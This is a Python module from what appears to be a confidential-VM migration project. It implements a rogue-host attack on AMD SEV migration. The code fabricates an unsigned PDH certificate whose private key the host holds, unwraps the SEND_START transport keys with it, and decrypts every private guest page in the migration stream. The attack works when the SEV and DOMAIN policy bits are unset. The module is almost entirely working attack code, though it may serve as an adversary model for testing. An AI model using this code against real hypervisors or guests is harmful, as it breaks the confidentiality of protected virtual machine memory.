"""A platform the host makes up: a PDH whose private key the host holds.

The source's ``sev-pdh`` migration parameter names the platform SEND_START seals the
transport keys for. Under neither the SEV nor the DOMAIN policy bit the firmware only
sanity-checks that certificate (docs/psp.md), so a host can name a PDH of its own making,
take the stream itself, unwrap the session as the target's PSP would, and decrypt every
private page. :class:`RoguePlatform` is that host's side; :func:`read_pages` its reading of
a stream it received.
"""

from __future__ import annotations

from dataclasses import dataclass
from typing import Final

from cryptography.hazmat.primitives.asymmetric import ec

from confmig.common.errors import ProtocolError
from confmig.platform.psp.cert import CertAlgo, CertUsage, SevCertificate
from confmig.platform.psp.kdf import derive_master_secret, ecdh_shared_secret
from confmig.platform.psp.packet import ChannelContext, PacketHeader, open_packet
from confmig.platform.psp.session import SessionBlob, TransportKeys, unwrap_session
from confmig.platform.psp.status import SevError
from confmig.proto.stream import psp as psp_records
from confmig.proto.stream.decoder import NEED_DATA, Confidential, End, StreamDecoder
from confmig.proto.stream.format import ConfidentialSubtype

MAX_PAGES: Final = 1 << 16
"""Pages a reading decrypts at most (a 256 MiB guest's worth)."""


@dataclass(frozen=True, slots=True, repr=False)
class RoguePlatform:
    """A P-384 key pair and its PDH certificate (unsigned: nothing chains it to the AMD root)."""

    private: ec.EllipticCurvePrivateKey
    pdh: bytes

    @classmethod
    def make(cls) -> RoguePlatform:
        key = ec.generate_private_key(ec.SECP384R1())
        cert = SevCertificate.build(key.public_key(), usage=CertUsage.PDH, algo=CertAlgo.ECDH_SHA256)
        return cls(private=key, pdh=cert.to_bytes())

    def keys(self, session: psp_records.PspSession) -> TransportKeys:
        """The session's TEK and TIK, unwrapped as the named platform's PSP would
        (:class:`SevError` if it was not sealed for this PDH)."""
        peer = SevCertificate.from_bytes(session.pdh).public_key().key
        if not isinstance(peer, ec.EllipticCurvePublicKey):
            raise ProtocolError("the source's PDH is not an ECDH key")
        blob = SessionBlob.from_bytes(session.session)
        master = derive_master_secret(ecdh_shared_secret(self.private, peer), blob.nonce)
        return unwrap_session(master_secret=master, blob=blob)


def read_pages(rogue: RoguePlatform, stream: bytes) -> dict[int, bytes]:
    """GPA -> plaintext of every private page in ``stream`` (as much of it as arrived) whose
    packet opens with the keys unwrapped for ``rogue``; empty if the stream carried no session
    sealed for it."""
    decoder = StreamDecoder()
    decoder.receive_data(stream)
    keys: TransportKeys | None = None
    pages: dict[int, bytes] = {}
    while len(pages) < MAX_PAGES:
        try:
            event = decoder.next_event()
        except ProtocolError:
            break  # the stream as far as it arrived: the host cut it
        if event is NEED_DATA or isinstance(event, End):
            break
        if not isinstance(event, Confidential) or event.subtype != ConfidentialSubtype.PSP_PACKET:
            continue
        record = psp_records.decode(event.payload)
        if isinstance(record, psp_records.PspSession):
            try:
                keys = rogue.keys(record)
            except SevError:
                return {}
        elif isinstance(record, psp_records.PspPage) and keys is not None:
            header = PacketHeader.from_bytes(record.header)
            pages[record.gpa] = open_packet(keys, header, record.transport, context=ChannelContext.DATA,
                                            uncompressed_len=len(record.transport))
    return pages
